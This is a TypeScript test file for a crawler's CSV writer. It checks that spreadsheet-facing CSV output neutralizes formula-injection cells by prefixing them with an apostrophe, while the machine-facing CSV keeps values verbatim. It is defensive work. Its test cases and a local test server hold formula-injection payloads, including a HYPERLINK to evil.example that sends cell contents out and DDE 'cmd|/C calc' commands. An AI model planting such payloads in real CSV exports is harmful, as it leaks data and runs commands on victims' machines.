/**
 * CSV for people (docs/security.md, CSV files and spreadsheets): a cell a spreadsheet would run as
 * a formula starts with `'`, every field is quoted; the artifact CSV files, a machine interface,
 * keep such values verbatim.
 */
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { describe, test } from 'node:test';
import { csvLine } from '../../src/artifacts/csv.js';
import {
  spreadsheetCsvLine,
  spreadsheetCsvLines,
  spreadsheetSafeCell,
} from '../../src/artifacts/spreadsheet-csv.js';
import { parseCsvText, readCsvGz, recordsOf } from '../support/artifact-readers.js';
import { runCli } from '../support/cli-runner.js';
import { listenLocally } from '../support/local-server.js';

describe('spreadsheetSafeCell', () => {
  const cases: [string, string][] = [
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `'=HYPERLINK("http://evil.example/?"&A1,"x")`],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['＝1+1', `'＝1+1`],
    ['＋1', `'＋1`],
    ['－1+1', `'－1+1`],
    ['＠SUM(A1)', `'＠SUM(A1)`],
    ['-', `'-`],
    // Left as they are: plain numbers, and text that does not start a formula.
    ['-12', '-12'],
    ['+3.5', '+3.5'],
    ['200', '200'],
    ['', ''],
    ['text/html; charset=utf-8', 'text/html; charset=utf-8'],
    ['Fri, 20 Nov 2026 08:00:00 GMT', 'Fri, 20 Nov 2026 08:00:00 GMT'],
    ['a=b', 'a=b'],
    ["'quoted", "'quoted"],
    ['https://example.com/?q==1', 'https://example.com/?q==1'],
  ];
  for (const [value, expected] of cases) {
    test(`${JSON.stringify(value)} is written ${JSON.stringify(expected)}`, () => {
      assert.equal(spreadsheetSafeCell(value), expected);
    });
  }
});

describe('spreadsheet CSV lines', () => {
  test('every field is quoted, quotes doubled, CRLF at the end', () => {
    assert.equal(spreadsheetCsvLine(['a', 'say "hi"', '=1+1', '']), '"a","say ""hi""","\'=1+1",""\r\n');
  });

  test('a whole file reads back with an RFC 4180 parser, formula cells neutralized', () => {
    const rows = [
      ['https://example.com/', 'true', '=cmd|"/c calc"!A1', 'text/html'],
      ['https://example.com/b', 'false', '', '@import,x\r\nnext'],
    ];
    const text = [...spreadsheetCsvLines(['url', 'ok', 'last_modified', 'content_type'], rows)].join('');
    assert.deepEqual(parseCsvText(text), [
      ['url', 'ok', 'last_modified', 'content_type'],
      ['https://example.com/', 'true', `'=cmd|"/c calc"!A1`, 'text/html'],
      ['https://example.com/b', 'false', '', `'@import,x\r\nnext`],
    ]);
  });

  test('the machine CSV writer keeps such cells verbatim', () => {
    assert.equal(csvLine(['=1+1', '@x', '-2']), '=1+1,@x,-2\r\n');
  });
});

test('url_list.csv.gz keeps a formula-like Last-Modified and Content-Type verbatim', async () => {
  const server = createServer((_request, response) => {
    response.setHeader('last-modified', '=HYPERLINK("http://evil.example/","x")');
    response.setHeader('content-type', 'text/html; charset=utf-8');
    response.end('<!doctype html><title>home</title><p>home</p>');
  });
  const site = await listenLocally(server);
  const dir = await mkdtemp(path.join(os.tmpdir(), 'kumo-csv-'));
  try {
    const out = path.join(dir, 'out');
    const result = await runCli(['crawl', `${site.baseUrl}/`, '--depth', '0', '--out', out]);
    assert.equal(result.code, 0, result.stderr);
    const [row] = recordsOf(readCsvGz(path.join(out, 'url_list.csv.gz')));
    assert.equal(row?.last_modified, '=HYPERLINK("http://evil.example/","x")');
  } finally {
    await site.close();
    await rm(dir, { recursive: true, force: true });
  }
});
